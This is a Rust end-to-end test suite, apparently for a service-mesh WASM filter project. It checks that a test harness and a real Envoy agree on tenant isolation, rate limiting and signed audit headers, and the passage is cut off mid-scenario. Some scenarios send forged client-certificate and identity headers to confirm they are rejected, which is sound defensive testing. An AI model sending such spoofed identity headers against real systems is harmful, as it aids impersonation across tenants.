//! The scenario suite, defined once and run twice: through the harness
//! (`meshward_harness::Proxy`) and through a real Envoy, both built from the same
//! `wasmplugins/base/*.yaml`. A scenario passes only when both runs meet its
//! expectations *and* agree with each other (ARCHITECTURE §5: a scenario the
//! harness and Envoy answer differently is a harness bug until shown otherwise).
//!
//! What "agree" means, per request (see [`disagreements`]): the same status; the
//! upstream reached or not in both; the same set of `x-meshward-*` headers at the
//! upstream, with equal values except for the scenario's `volatile` ones (ids,
//! times, signatures — those are checked by the expectation instead); the same
//! rate-limit headers present in the response; for a local reply, the same
//! `content-type` and JSON `error`.

use crate::e2e::{EchoServer, Echoed, EnvoyProcess, MtlsClient, TempDir, WireRequest};
use anyhow::Context as _;
use meshward_harness::certs::{IssuedSvid as Svid, SvidSpec, TestCa};
use meshward_harness::envoy_config::{self, Bootstrap, Cluster, ListenerTls, WasmFilter};
use meshward_harness::manifest::ManifestContext;
use meshward_harness::{Proxy, Request, Response};
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// The trust domain of the test mesh (Istio's default).
pub const TRUST_DOMAIN: &str = "cluster.local";

/// A workload of the bank mesh: its namespace (tenant) and service account.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct Workload {
    pub namespace: &'static str,
    pub service_account: &'static str,
}

impl Workload {
    pub fn spiffe_id(&self) -> String {
        format!(
            "spiffe://{}/ns/{}/sa/{}",
            TRUST_DOMAIN, self.namespace, self.service_account
        )
    }
}

pub const BANK_A_API: Workload = Workload {
    namespace: "bank-a",
    service_account: "api",
};
pub const BANK_A_WEB: Workload = Workload {
    namespace: "bank-a",
    service_account: "web",
};
pub const BANK_B_API: Workload = Workload {
    namespace: "bank-b",
    service_account: "api",
};
pub const SHARED_LOGGING: Workload = Workload {
    namespace: "shared",
    service_account: "logging",
};
pub const INGRESS_GATEWAY: Workload = Workload {
    namespace: "istio-system",
    service_account: "istio-ingressgateway-service-account",
};

/// One request of a scenario, as the caller puts it on the wire.
#[derive(Debug, Clone)]
pub struct Send {
    pub caller: Workload,
    pub method: &'static str,
    pub path: String,
    pub authority: String,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Send {
    pub fn get(caller: Workload, path: &str) -> Send {
        Send {
            caller,
            method: "GET",
            path: path.to_string(),
            authority: "api.bank-a.svc.cluster.local".to_string(),
            headers: Vec::new(),
            body: Vec::new(),
        }
    }

    pub fn post(caller: Workload, path: &str, body: &[u8]) -> Send {
        Send {
            method: "POST",
            body: body.to_vec(),
            ..Send::get(caller, path)
        }
    }

    /// A POST of a JSON body, with its `content-type` (the mesh's WAF, CRS at paranoia
    /// level 1, denies a body without one: rules 920340 and 920640).
    pub fn json(caller: Workload, path: &str, body: &[u8]) -> Send {
        Send::post(caller, path, body).header("content-type", "application/json")
    }

    pub fn header(mut self, name: &str, value: &str) -> Send {
        self.headers.push((name.to_string(), value.to_string()));
        self
    }

    pub fn authority(mut self, authority: &str) -> Send {
        self.authority = authority.to_string();
        self
    }
}

/// What one request came to, on either side.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Observed {
    pub status: u16,
    /// What the upstream received (pseudo-headers left out), if it was reached.
    pub upstream: Option<Echoed>,
    pub response_headers: Vec<(String, String)>,
    pub body: Vec<u8>,
    /// When the request was sent, from the scenario's first request: real time
    /// in Envoy; always zero in the harness, whose clock stands still.
    pub sent_at: Duration,
    /// Response-code details: `via_upstream`, or what the local reply's filter named.
    pub details: Option<String>,
}

impl Observed {
    pub fn response_header(&self, name: &str) -> Option<&str> {
        self.response_headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    pub fn upstream_header(&self, name: &str) -> Option<&str> {
        self.upstream.as_ref().and_then(|u| u.header(name))
    }

    /// The `error` of a JSON local-reply body.
    pub fn error(&self) -> Option<String> {
        let v: serde_json::Value = serde_json::from_slice(&self.body).ok()?;
        v.get("error")?.as_str().map(str::to_string)
    }

    fn summary(&self) -> String {
        match &self.upstream {
            Some(_) => format!("{} (upstream reached)", self.status),
            None => format!(
                "{} (local reply{})",
                self.status,
                self.error().map(|e| format!(": {e}")).unwrap_or_default()
            ),
        }
    }
}

/// Which side produced an observation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Side {
    Harness,
    Envoy,
}

/// A scenario's expectation, checked on each side's observations.
pub type Expect = fn(&Mesh, &[Observed]) -> Result<(), String>;

/// One scenario of the suite.
pub struct Scenario {
    /// States the behaviour, e.g. `cross_tenant_call_is_denied`.
    pub name: &'static str,
    /// The workload whose inbound sidecar runs the chain (its `node.metadata.NAMESPACE`
    /// and its listener certificate).
    pub callee: Workload,
    pub requests: Vec<Send>,
    /// Upstream `x-meshward-*` headers whose values legitimately differ between runs.
    pub volatile: &'static [&'static str],
    /// For rate-limited scenarios: the limit's refill interval. Real time passes
    /// in Envoy while the harness's clock stands still, so Envoy may admit one
    /// more request per interval elapsed than the harness; that is not a disagreement.
    pub refill: Option<Duration>,
    pub expect: Expect,
}

impl Scenario {
    /// How many extra admissions real time allows by the time of `last`.
    pub fn refill_allowance(&self, last: Option<&Observed>) -> usize {
        match (self.refill, last) {
            (Some(interval), Some(o)) if !interval.is_zero() => {
                (o.sent_at.as_nanos() / interval.as_nanos()) as usize
            }
            _ => 0,
        }
    }
}

/// The test mesh: CA, SVIDs, the manifests, and the secrets served as `valueFrom: HOST`.
pub struct Mesh {
    pub ca: TestCa,
    pub manifests: PathBuf,
    pub wasm_dir: PathBuf,
    /// Values for every `vmConfig.env` `valueFrom: HOST` of the manifests.
    pub host_env: Vec<(String, String)>,
    svids: std::sync::Mutex<BTreeMap<Workload, Svid>>,
}

impl Mesh {
    /// A fresh CA; one made-up secret per `valueFrom: HOST` variable of the manifests.
    pub fn new(manifests: &Path) -> anyhow::Result<Mesh> {
        let wasm_dir = meshward_harness::manifest::default_wasm_dir();
        let ctx = ManifestContext {
            wasm_dir: Some(wasm_dir.clone()),
            host_env: Vec::new(),
        };
        let filters = envoy_config::filters_from_manifests(&[manifests.to_path_buf()], &ctx)?;
        let mut host_env = Vec::new();
        for key in filters.iter().flat_map(|f| f.host_env_keys.iter()) {
            if !host_env.iter().any(|(k, _): &(String, String)| k == key) {
                host_env.push((
                    key.clone(),
                    format!("meshward-e2e-secret-{key}-0123456789abcdef"),
                ));
            }
        }
        Ok(Mesh {
            ca: TestCa::new("meshward e2e CA")?,
            manifests: manifests.to_path_buf(),
            wasm_dir,
            host_env,
            svids: std::sync::Mutex::new(BTreeMap::new()),
        })
    }

    /// The workload's SVID (minted once).
    pub fn svid(&self, workload: Workload) -> anyhow::Result<Svid> {
        let mut svids = self
            .svids
            .lock()
            .map_err(|_| anyhow::anyhow!("SVID cache poisoned"))?;
        if let Some(svid) = svids.get(&workload) {
            return Ok(svid.clone());
        }
        // Every workload also serves: the DNS SAN lets the client verify the listener by name.
        let svid = self
            .ca
            .svid(&SvidSpec::new(&workload.spiffe_id()).dns("localhost"))?;
        svids.insert(workload, svid.clone());
        Ok(svid)
    }

    /// The Envoy filters of the manifests.
    pub fn filters(&self) -> anyhow::Result<Vec<WasmFilter>> {
        let ctx = ManifestContext {
            wasm_dir: Some(self.wasm_dir.clone()),
            host_env: Vec::new(),
        };
        envoy_config::filters_from_manifests(std::slice::from_ref(&self.manifests), &ctx)
    }

    /// The host-side value of a `valueFrom: HOST` variable.
    pub fn host_value(&self, key: &str) -> Option<&str> {
        self.host_env
            .iter()
            .find(|(k, _)| k == key)
            .map(|(_, v)| v.as_str())
    }
}

/// The JSON the echo upstream answers with, for the harness's upstream too, so
/// both sides' clients get the same kind of body.
fn harness_echo(upstream: &meshward_harness::Upstream) -> Response {
    let echoed = Echoed {
        method: upstream.method.clone(),
        path: upstream.path.clone(),
        headers: upstream
            .headers
            .iter()
            .filter(|(k, _)| !k.starts_with(':'))
            .cloned()
            .collect(),
        body: upstream.body.clone(),
    };
    let body = serde_json::to_vec(&echoed.to_json()).unwrap_or_default();
    // As the real echo server answers: HTTP/1.1 with a content-length.
    Response::new(200)
        .header("content-type", "application/json")
        .header("content-length", &body.len().to_string())
        .body(body)
}

/// The harness proxy for `callee`: the manifests' chain on two workers, the
/// mesh's host environment, every cluster the filters name known, the echo upstream,
/// and the callee's SPIFFE ID as its own identity (XFCC `By=`), as the listener
/// certificate Envoy serves.
pub fn harness_proxy(mesh: &Mesh, callee: Workload) -> anyhow::Result<Proxy> {
    let mut builder = Proxy::builder()
        .workers(2)
        .node_metadata("NAMESPACE", callee.namespace)
        .local_identity(&callee.spiffe_id());
    for (k, v) in &mesh.host_env {
        builder = builder.host_env(k, v);
    }
    for filter in mesh.filters()? {
        for cluster in envoy_config::referenced_clusters(&filter) {
            builder = builder.cluster(&cluster);
        }
    }
    let mut proxy = builder
        .wasm_dir(mesh.wasm_dir.clone())
        .manifests(std::slice::from_ref(&mesh.manifests))?
        .build()
        .map_err(|e| anyhow::anyhow!("{e}"))?;
    proxy.set_upstream(harness_echo);
    Ok(proxy)
}

/// The harness's side of one request of a scenario, sent on `worker`.
pub fn harness_request(mesh: &Mesh, send: &Send, worker: usize) -> anyhow::Result<Request> {
    let svid = mesh.svid(send.caller)?;
    let mut request = Request::new(send.method, &send.path)
        .authority(&send.authority)
        .peer_certificate_pem(svid.cert_pem.clone())
        .worker(worker);
    for (k, v) in &send.headers {
        request = request.header(k, v);
    }
    if !send.body.is_empty() {
        request = request.body(send.body.clone());
    }
    // The framing the wire client writes (`client.rs`), which Envoy hands to the filters.
    Ok(request.http1_framing())
}

/// Runs a scenario through the harness: the manifests' chain, two workers,
/// requests alternating between them.
pub fn run_harness(
    mesh: &Mesh,
    scenario: &Scenario,
) -> anyhow::Result<(Vec<Observed>, BTreeMap<String, i64>)> {
    let mut proxy = harness_proxy(mesh, scenario.callee)?;
    let mut observed = Vec::new();
    for (i, send) in scenario.requests.iter().enumerate() {
        let out = proxy.send(harness_request(mesh, send, i % 2)?);
        let upstream = out.upstream.as_ref().map(|u| Echoed {
            method: u.method.clone(),
            path: u.path.clone(),
            headers: u
                .headers
                .iter()
                .filter(|(k, _)| !k.starts_with(':'))
                .cloned()
                .collect(),
            body: u.body.clone(),
        });
        observed.push(Observed {
            status: out.response.status,
            upstream,
            response_headers: out.response.headers.clone(),
            body: out.response.body.clone(),
            sent_at: Duration::ZERO,
            details: match (&out.local_reply, &out.upstream) {
                (Some(reply), _) => Some(reply.details.clone()),
                (None, Some(_)) => Some("via_upstream".to_string()),
                (None, None) => None,
            },
        });
    }
    Ok((observed, proxy.metrics()))
}

/// A started Envoy for one callee, with its upstream and collector.
pub struct EnvoyRig {
    pub envoy: EnvoyProcess,
    pub upstream: EchoServer,
    /// Answers every cluster the filters' configuration names for `http_call`.
    pub collector: EchoServer,
    clients: BTreeMap<Workload, MtlsClient>,
    access_log: std::path::PathBuf,
    _dir: TempDir,
}

impl EnvoyRig {
    /// Envoy with the manifests' chain in front of an echo upstream, as `callee`'s
    /// inbound sidecar, with `concurrency` worker threads.
    pub fn start(mesh: &Mesh, callee: Workload, concurrency: u32) -> anyhow::Result<EnvoyRig> {
        let dir = TempDir::new("rig")?;
        let server = mesh.svid(callee)?;
        let upstream = EchoServer::start()?;
        let collector = EchoServer::start()?;
        let any: std::net::SocketAddr = "127.0.0.1:0".parse()?;
        let mut bootstrap = Bootstrap::new(any, any, upstream.addr());
        bootstrap.tls = Some(ListenerTls {
            ca: dir.write("ca.pem", mesh.ca.pem())?,
            cert: dir.write("server.pem", &server.cert_pem)?,
            key: dir.write("server.key", &server.key_pem)?,
        });
        bootstrap.node_id = format!(
            "sidecar~127.0.0.1~{}.{}~{0}.svc.cluster.local",
            callee.service_account, callee.namespace
        );
        bootstrap
            .node_metadata
            .insert("NAMESPACE".into(), callee.namespace.into());
        bootstrap.filters = mesh.filters()?;
        let access_log = dir.path().join("access.jsonl");
        bootstrap.access_log = Some(access_log.clone());
        let mut named = BTreeSet::new();
        for filter in &bootstrap.filters {
            named.extend(envoy_config::referenced_clusters(filter));
        }
        for name in named {
            bootstrap
                .clusters
                .push(Cluster::http1(name, collector.addr()));
        }
        let envoy = EnvoyProcess::start(&bootstrap, concurrency, &mesh.host_env)?;
        Ok(EnvoyRig {
            envoy,
            upstream,
            collector,
            clients: BTreeMap::new(),
            access_log,
            _dir: dir,
        })
    }

    /// The access log's first `n` lines (JSON), waiting up to 5 s for them.
    pub fn access_log_lines(&self, n: usize) -> anyhow::Result<Vec<serde_json::Value>> {
        let deadline = Instant::now() + Duration::from_secs(5);
        loop {
            let text = std::fs::read_to_string(&self.access_log).unwrap_or_default();
            let lines: Vec<serde_json::Value> = text
                .lines()
                .map(serde_json::from_str)
                .collect::<Result<_, _>>()
                .context("access log line is not JSON")?;
            if lines.len() >= n {
                return Ok(lines.into_iter().take(n).collect());
            }
            if Instant::now() > deadline {
                anyhow::bail!("{} of {n} access-log lines after 5 s", lines.len());
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    /// A client presenting `caller`'s SVID.
    pub fn client(&mut self, mesh: &Mesh, caller: Workload) -> anyhow::Result<MtlsClient> {
        if let Some(client) = self.clients.get(&caller) {
            return Ok(client.clone());
        }
        let svid = mesh.svid(caller)?;
        let client = MtlsClient::new(
            mesh.ca.pem(),
            Some((&svid.cert_pem, &svid.key_pem)),
            "localhost",
        )?;
        self.clients.insert(caller, client.clone());
        Ok(client)
    }
}

/// Runs a scenario through a real Envoy (`--concurrency 2`), one request after another.
pub fn run_envoy(mesh: &Mesh, scenario: &Scenario) -> anyhow::Result<(Vec<Observed>, EnvoyRig)> {
    let mut rig = EnvoyRig::start(mesh, scenario.callee, 2)?;
    let mut observed = Vec::new();
    let first = Instant::now();
    for send in &scenario.requests {
        let sent_at = first.elapsed();
        let client = rig.client(mesh, send.caller)?;
        let before = rig.upstream.count();
        let response = client
            .send(
                rig.envoy.listener(),
                &WireRequest {
                    method: send.method.to_string(),
                    path: send.path.clone(),
                    authority: send.authority.clone(),
                    headers: send.headers.clone(),
                    body: send.body.clone(),
                },
            )
            .with_context(|| format!("{}: {} {}", scenario.name, send.method, send.path))?;
        let received = rig.upstream.received();
        let upstream = (received.len() > before).then(|| received[received.len() - 1].clone());
        observed.push(Observed {
            status: response.status,
            upstream,
            response_headers: response.headers,
            body: response.body,
            sent_at,
            details: None,
        });
    }
    // The access log, one line per request in order (requests were sequential).
    let lines = rig.access_log_lines(observed.len())?;
    for (o, line) in observed.iter_mut().zip(lines) {
        o.details = line["details"].as_str().map(str::to_string);
    }
    Ok((observed, rig))
}

/// Response headers whose presence must agree.
const COMPARED_RESPONSE_HEADERS: &[&str] = &[
    "retry-after",
    "ratelimit",
    "ratelimit-policy",
    "x-ratelimit-limit",
    "x-ratelimit-remaining",
    "x-ratelimit-reset",
];

/// Upstream request headers the sidecar itself writes, whose values must agree:
/// the XFCC element Istio's sidecar appends (APPEND_FORWARD, `uri` and `cert`;
/// both sides use the same certificates and local identity) and the scheme.
const COMPARED_UPSTREAM_HEADERS: &[&str] = &["x-forwarded-client-cert", "x-forwarded-proto"];

/// Response headers the proxy adds whose presence must agree: the router's
/// `x-envoy-upstream-service-time` (upstream responses only) and the codec's
/// `date` and `server` (every response).
const PROXY_RESPONSE_HEADERS: &[&str] = &["x-envoy-upstream-service-time", "date", "server"];

/// Every way the two runs differ, one line each (empty: they agree).
pub fn disagreements(scenario: &Scenario, harness: &[Observed], envoy: &[Observed]) -> Vec<String> {
    let mut out = Vec::new();
    if harness.len() != envoy.len() {
        out.push(format!(
            "{} requests in the harness, {} in Envoy",
            harness.len(),
            envoy.len()
        ));
    }
    let mut refills = scenario.refill_allowance(envoy.last());
    for (i, (h, e)) in harness.iter().zip(envoy).enumerate() {
        let at = format!("request {i}");
        let refilled =
            h.status == 429 && h.upstream.is_none() && e.status == 200 && e.upstream.is_some();
        if refilled && refills > 0 {
            refills -= 1;
            continue;
        }
        if h.status != e.status || h.upstream.is_some() != e.upstream.is_some() {
            out.push(format!(
                "{at}: harness {} / Envoy {}",
                h.summary(),
                e.summary()
            ));
            continue;
        }
        if let (Some(hu), Some(eu)) = (&h.upstream, &e.upstream) {
            let names = |u: &Echoed| -> BTreeSet<String> {
                u.headers
                    .iter()
                    .map(|(k, _)| k.clone())
                    .filter(|k| k.starts_with("x-meshward-"))
                    .collect()
            };
            let (hn, en) = (names(hu), names(eu));
            if hn != en {
                out.push(format!(
                    "{at}: upstream x-meshward-* headers: harness {hn:?} / Envoy {en:?}"
                ));
            }
            let compared = hn
                .intersection(&en)
                .filter(|name| !scenario.volatile.contains(&name.as_str()))
                .map(String::as_str)
                .chain(COMPARED_UPSTREAM_HEADERS.iter().copied());
            for name in compared {
                if hu.header(name) != eu.header(name) {
                    out.push(format!(
                        "{at}: upstream {name}: harness {:?} / Envoy {:?}",
                        hu.header(name),
                        eu.header(name)
                    ));
                }
            }
        } else {
            if h.response_header("content-type") != e.response_header("content-type") {
                out.push(format!(
                    "{at}: local reply content-type: harness {:?} / Envoy {:?}",
                    h.response_header("content-type"),
                    e.response_header("content-type")
                ));
            }
            if h.error() != e.error() {
                out.push(format!(
                    "{at}: local reply error: harness {:?} / Envoy {:?}",
                    h.error(),
                    e.error()
                ));
            }
        }
        for name in COMPARED_RESPONSE_HEADERS
            .iter()
            .chain(PROXY_RESPONSE_HEADERS)
        {
            let (hv, ev) = (h.response_header(name), e.response_header(name));
            if hv.is_some() != ev.is_some() {
                out.push(format!(
                    "{at}: response {name}: harness {hv:?} / Envoy {ev:?}"
                ));
            }
        }
    }
    out
}

/// Metrics whose values depend on how many VMs Envoy runs or on real time
/// (config loads, background export, CAS retries): compared by name only.
const METRICS_COMPARED_BY_NAME: &[&str] = &["export_", "queue_depth", "cas_retries"];

/// Differences between the harness's metrics and Envoy's `wasmcustom.*` stats:
/// the same metrics must exist, and (with `values`) request-driven ones must have the same value.
pub fn metric_disagreements(
    harness: &BTreeMap<String, i64>,
    envoy_stats: &BTreeMap<String, i64>,
    values: bool,
) -> Vec<String> {
    let envoy: BTreeMap<&str, i64> = envoy_stats
        .iter()
        .filter_map(|(k, v)| k.strip_prefix("wasmcustom.").map(|name| (name, *v)))
        .collect();
    let mut out = Vec::new();
    for (name, value) in harness {
        match envoy.get(name.as_str()) {
            None => out.push(format!(
                "metric {name} = {value} in the harness, absent from Envoy's stats"
            )),
            Some(e)
                if values
                    && e != value
                    && !METRICS_COMPARED_BY_NAME.iter().any(|p| name.contains(p)) =>
            {
                out.push(format!("metric {name}: harness {value} / Envoy {e}"))
            }
            Some(_) => {}
        }
    }
    for (name, value) in &envoy {
        if !harness.contains_key(*name) {
            out.push(format!(
                "metric {name} = {value} in Envoy, absent from the harness"
            ));
        }
    }
    out
}

/// The result of running one scenario on both sides.
pub struct Report {
    pub harness: Vec<Observed>,
    pub envoy: Vec<Observed>,
    pub rig: EnvoyRig,
    /// Expectation failures per side, and disagreements; empty when the scenario passed.
    pub failures: Vec<String>,
    pub harness_time: Duration,
    pub envoy_time: Duration,
    /// The harness's metrics after the scenario.
    pub harness_metrics: BTreeMap<String, i64>,
}

/// Held while an Envoy runs: on a 2-core machine parallel Envoys (and their V8
/// compiles) slow each other's requests enough to refill rate limits mid-burst.
pub fn envoy_lock() -> std::sync::MutexGuard<'static, ()> {
    static ENVOY_LOCK: std::sync::Mutex<()> = std::sync::Mutex::new(());
    ENVOY_LOCK
        .lock()
        .unwrap_or_else(|poisoned| poisoned.into_inner())
}

/// Runs a scenario through both sides and checks expectations and agreement.
pub fn run_both(mesh: &Mesh, scenario: &Scenario) -> anyhow::Result<Report> {
    let t = Instant::now();
    let (harness, harness_metrics) =
        run_harness(mesh, scenario).with_context(|| format!("{}: harness", scenario.name))?;
    let harness_time = t.elapsed();
    let t = Instant::now();
    let (envoy, rig) =
        run_envoy(mesh, scenario).with_context(|| format!("{}: Envoy", scenario.name))?;
    let envoy_time = t.elapsed();
    let mut failures = Vec::new();
    for (side, observed) in [(Side::Harness, &harness), (Side::Envoy, &envoy)] {
        if let Err(e) = (scenario.expect)(mesh, observed) {
            failures.push(format!("{side:?}: {e}"));
        }
    }
    for d in disagreements(scenario, &harness, &envoy) {
        failures.push(format!("harness/Envoy disagree: {d}"));
    }
    let envoy_stats = rig.envoy.stats().context("reading Envoy's /stats")?;
    // With a refill allowance, real time may admit more in Envoy: values then differ by design.
    for d in metric_disagreements(&harness_metrics, &envoy_stats, scenario.refill.is_none()) {
        failures.push(format!("harness/Envoy disagree: {d}"));
    }
    Ok(Report {
        harness,
        envoy,
        rig,
        failures,
        harness_time,
        envoy_time,
        harness_metrics,
    })
}

/// Runs a scenario on both sides and panics with every failure, Envoy's wasm log
/// attached, if it did not pass.
pub fn assert_scenario(mesh: &Mesh, scenario: &Scenario) {
    let report = match run_both(mesh, scenario) {
        Ok(report) => report,
        Err(e) => panic!("{e:#}"),
    };
    eprintln!(
        "scenario {}: harness {:?}, Envoy {:?} (start {:?}); statuses harness {:?} / Envoy {:?}",
        scenario.name,
        report.harness_time,
        report.envoy_time,
        report.rig.envoy.started_in(),
        report.harness.iter().map(|o| o.status).collect::<Vec<_>>(),
        report
            .envoy
            .iter()
            .map(|o| (o.status, o.details.clone().unwrap_or_default()))
            .collect::<Vec<_>>(),
    );
    if std::env::var_os("MESHWARD_E2E_SHOW_METRICS").is_some() {
        eprintln!("harness metrics: {:?}", report.harness_metrics);
        let stats = report.rig.envoy.stats().unwrap_or_default();
        eprintln!(
            "envoy wasmcustom: {:?}",
            stats
                .iter()
                .filter(|(k, _)| k.starts_with("wasmcustom."))
                .collect::<Vec<_>>()
        );
    }
    if !report.failures.is_empty() {
        panic!(
            "scenario {} failed:\n  {}\nEnvoy wasm log:\n{}",
            scenario.name,
            report.failures.join("\n  "),
            report.rig.envoy.wasm_log_lines().join("\n")
        );
    }
}

// ---------------------------------------------------------------------------
// The suite. Expectations are what the bank mesh's manifests promise
// (ARCHITECTURE §1, §3); each must hold in the harness and in Envoy alike.

/// Upstream headers that carry per-request ids, times or signatures.
pub const AUDIT_VOLATILE: &[&str] = &["x-meshward-audit", "x-meshward-audit-signature"];

/// Request `i` got 200 from the upstream it reached.
fn expect_passed(o: &[Observed], i: usize) -> Result<(), String> {
    expect_status(o, i, 200)?;
    expect_reached(o, i, true)
}

/// Request `i` was denied with meshward's 403 JSON reply and never reached the upstream.
fn expect_denied(o: &[Observed], i: usize) -> Result<(), String> {
    expect_status(o, i, 403)?;
    expect_reached(o, i, false)?;
    expect_json_local_reply(o, i)
}

fn expect_status(o: &[Observed], i: usize, status: u16) -> Result<(), String> {
    let got = o.get(i).ok_or_else(|| format!("no request {i}"))?;
    if got.status != status {
        return Err(format!(
            "request {i}: expected {status}, got {}",
            got.summary()
        ));
    }
    Ok(())
}

fn expect_reached(o: &[Observed], i: usize, reached: bool) -> Result<(), String> {
    let got = o.get(i).ok_or_else(|| format!("no request {i}"))?;
    if got.upstream.is_some() != reached {
        return Err(format!(
            "request {i}: upstream {} reached, got {}",
            if reached { "should be" } else { "must not be" },
            got.summary()
        ));
    }
    Ok(())
}

fn expect_json_local_reply(o: &[Observed], i: usize) -> Result<(), String> {
    let got = o.get(i).ok_or_else(|| format!("no request {i}"))?;
    if got.response_header("content-type") != Some("application/json") || got.error().is_none() {
        return Err(format!(
            "request {i}: local reply should be JSON with an `error`, got content-type {:?} body {:?}",
            got.response_header("content-type"),
            String::from_utf8_lossy(&got.body)
        ));
    }
    Ok(())
}

/// The claims of request `i`'s `x-meshward-audit` at the upstream, after checking
/// its signature with the mesh's `k1` key (`MESHWARD_AUDIT_KEY_K1`, `valueFrom: HOST`).
pub fn verified_audit_claims(
    mesh: &Mesh,
    o: &[Observed],
    i: usize,
) -> Result<meshward_shared::audit::AuditClaims, String> {
    let got = o.get(i).ok_or_else(|| format!("no request {i}"))?;
    let value = got
        .upstream_header("x-meshward-audit")
        .ok_or_else(|| format!("request {i}: no x-meshward-audit at the upstream"))?;
    let signature = got
        .upstream_header("x-meshward-audit-signature")
        .ok_or_else(|| format!("request {i}: no x-meshward-audit-signature at the upstream"))?;
    let secret = mesh
        .host_value("MESHWARD_AUDIT_KEY_K1")
        .ok_or("the manifests give audit no MESHWARD_AUDIT_KEY_K1 from the host")?;
    let mut keys = meshward_shared::audit::Keyring::new();
    keys.insert("k1", secret.as_bytes())
        .map_err(|e| e.to_string())?;
    meshward_shared::audit::verify_header(value, signature, &keys)
        .map_err(|e| format!("request {i}: audit header does not verify: {e} ({value})"))
}

/// The caller's principal and tenant, and the tenant filter's decision, as the
/// signed audit header tells the upstream.
fn expect_audited_as(
    mesh: &Mesh,
    o: &[Observed],
    i: usize,
    caller: Workload,
    authz_reason: &str,
) -> Result<(), String> {
    let claims = verified_audit_claims(mesh, o, i)?;
    let authz = claims.authz.as_ref();
    if claims.principal.as_deref() != Some(caller.spiffe_id().as_str())
        || claims.tenant.as_deref() != Some(caller.namespace)
        || authz.map(|d| d.outcome) != Some(meshward_shared::filter_state::Outcome::Allow)
        || authz.and_then(|d| d.reason.as_deref()) != Some(authz_reason)
    {
        return Err(format!(
            "request {i}: audited as {:?} of {:?} with authz {authz:?}, expected {} allowed ({authz_reason})",
            claims.principal,
            claims.tenant,
            caller.spiffe_id()
        ));
    }
    Ok(())
}

/// A caller of the callee's own tenant reaches it.
pub fn same_tenant_call_is_allowed() -> Scenario {
    Scenario {
        name: "same_tenant_call_is_allowed",
        callee: BANK_A_API,
        requests: vec![Send::get(BANK_A_WEB, "/accounts/1")],
        volatile: AUDIT_VOLATILE,
        refill: None,
        expect: |mesh, o| {
            expect_passed(o, 0)?;
            expect_audited_as(mesh, o, 0, BANK_A_WEB, "same_tenant")
        },
    }
}

/// A caller of another tenant gets 403 and never reaches the callee.
pub fn cross_tenant_call_is_denied() -> Scenario {
    Scenario {
        name: "cross_tenant_call_is_denied",
        callee: BANK_A_API,
        requests: vec![Send::get(BANK_B_API, "/accounts/1")],
        volatile: AUDIT_VOLATILE,
        refill: None,
        expect: |_, o| expect_denied(o, 0),
    }
}

/// A bank-b workload that claims, in `x-forwarded-client-cert` and in
/// `x-meshward-*` headers, to be bank-a is still bank-b: it is not a trusted
/// forwarder, so neither claim counts.
pub fn forged_identity_is_not_believed() -> Scenario {
    let forged = BANK_A_WEB.spiffe_id();
    Scenario {
        name: "forged_identity_is_not_believed",
        callee: BANK_A_API,
        requests: vec![Send::get(BANK_B_API, "/accounts/1")
            .header(
                "x-forwarded-client-cert",
                &format!("By={};URI={forged}", BANK_A_API.spiffe_id()),
            )
            .header("x-meshward-principal", &forged)
            .header("x-meshward-tenant", "bank-a")],
        volatile: AUDIT_VOLATILE,
        refill: None,
        expect: |_, o| {
            expect_status(o, 0, 403)?;
            expect_reached(o, 0, false)
        },
    }
}

/// Headers a client forges in the filters' own namespace never reach the
/// upstream as sent: the upstream sees only what the filters vouch for.
pub fn forged_meshward_headers_do_not_reach_the_upstream() -> Scenario {
    Scenario {
        name: "forged_meshward_headers_do_not_reach_the_upstream",
        callee: BANK_A_API,
        requests: vec![Send::get(BANK_A_WEB, "/accounts/1")
            .header("x-meshward-tenant", "bank-b")
            .header("x-meshward-principal", &BANK_B_API.spiffe_id())
            .header("x-meshward-audit", "v=1;rid=forged")
            .header("x-meshward-audit-signature", "k1:forged")],
        volatile: AUDIT_VOLATILE,
        refill: None,
        expect: |_, o| {
            expect_passed(o, 0)?;
            for (name, forged) in [
                ("x-meshward-tenant", "bank-b".to_string()),
                ("x-meshward-principal", BANK_B_API.spiffe_id()),
                ("x-meshward-audit", "v=1;rid=forged".to_string()),
                ("x-meshward-audit-signature", "k1:forged".to_string()),
            ] {
                if o[0].upstream_header(name) == Some(forged.as_str()) {
                    return Err(format!("the forged {name} reached the upstream"));
                }
            }
            Ok(())
        },
    }
}

/// Requests in [`burst_beyond_the_limit_is_rejected`]: the manifests' rule
/// `payments-per-account` admits a burst of 10 per caller and account.
pub const PAYMENTS_BURST: usize = 10;
/// `payments-per-account` refills one request every 2 s (30 per minute).
pub const PAYMENTS_REFILL: Duration = Duration::from_secs(2);
const BURST_REQUESTS: usize = PAYMENTS_BURST + 4;

/// A caller that sends a burst of transfers for one account gets the burst
/// admitted and the rest rejected with 429 and `retry-after`.
pub fn burst_beyond_the_limit_is_rejected() -> Scenario {
    Scenario {
        name: "burst_beyond_the_limit_is_rejected",
        callee: BANK_A_API,
        requests: (0..BURST_REQUESTS)
            .map(|_| {
                Send::json(
                    BANK_A_WEB,
                    "/accounts/42/transfers",
                    br#"{"amount":"10.00"}"#,
                )
            })
            .collect(),
        volatile: AUDIT_VOLATILE,
        refill: Some(PAYMENTS_REFILL),
        expect: |_, o| {
            let mut refills = burst_beyond_the_limit_is_rejected().refill_allowance(o.last());
            for i in 0..BURST_REQUESTS {
                if i < PAYMENTS_BURST {
                    expect_status(o, i, 200)?;
                    expect_reached(o, i, true)?;
                } else if o.get(i).is_some_and(|o| o.status == 200) && refills > 0 {
                    // A token refilled while Envoy's burst was under way.
                    refills -= 1;
                } else {
                    expect_status(o, i, 429)?;
                    expect_reached(o, i, false)?;
                    expect_json_local_reply(o, i)?;
                    if o[i].response_header("retry-after").is_none() {
                        return Err(format!("request {i}: 429 without retry-after"));
                    }
                }
            }
            Ok(())
        },
    }
}

/// The upstream gets `x-meshward-audit` signed with the configured key, and
/// the claims name the verified caller, its tenant and the request.
pub fn audit_headers_are_signed_and_verifiable() -> Scenario {
    Scenario {
        name: "audit_headers_are_signed_and_verifiable",
        callee: BANK_A_API,
        requests: vec![Send::get(BANK_A_WEB, "/accounts/7")],
        volatile: AUDIT_VOLATILE,
        refill: None,
